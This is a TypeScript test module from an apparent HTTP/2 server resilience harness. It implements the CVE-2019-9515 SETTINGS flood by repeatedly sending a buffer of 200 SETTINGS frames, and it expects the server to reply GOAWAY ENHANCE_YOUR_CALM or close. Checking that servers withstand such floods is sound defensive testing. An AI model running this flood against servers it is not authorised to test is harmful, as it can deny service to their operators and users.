// SETTINGS, each of which has to be acknowledged.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2 } from '../wire/http2.ts'

const PIECE = Buffer.concat(new Array<Buffer>(200).fill(h2.settings()))

export const attack: Attack = {
  reference: 'CVE-2019-9515',
  does: 'sends SETTINGS frames',
  who: ['known', 'unknown'],
  answers: [],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed'],
  run: (target, signal) => attackHttp2(target, signal, {}, () => ({ next: () => PIECE })),
}
